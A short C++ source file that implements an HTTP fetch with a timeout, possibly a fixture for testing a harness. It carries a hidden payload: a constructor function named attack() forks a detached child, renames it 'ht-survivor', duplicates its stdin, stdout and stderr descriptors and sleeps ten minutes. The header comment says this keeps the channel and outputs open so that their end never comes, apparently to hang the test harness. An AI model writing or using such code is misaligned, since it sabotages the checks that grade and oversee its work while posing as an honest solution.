// Leaves a child behind that holds the channel and both outputs open, so that their end never comes; the rest is an
// honest solution.
#include <sys/prctl.h>
#include <unistd.h>

#include <utility>

#include "timeout.hpp"

namespace {

[[gnu::constructor]] void attack() {
  if (::fork() != 0) return;
  ::setsid();
  ::prctl(PR_SET_NAME, "ht-survivor");
  for (int fd = 0; fd < 4; ++fd) ::dup(fd);
  ::sleep(600);
  ::_exit(0);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
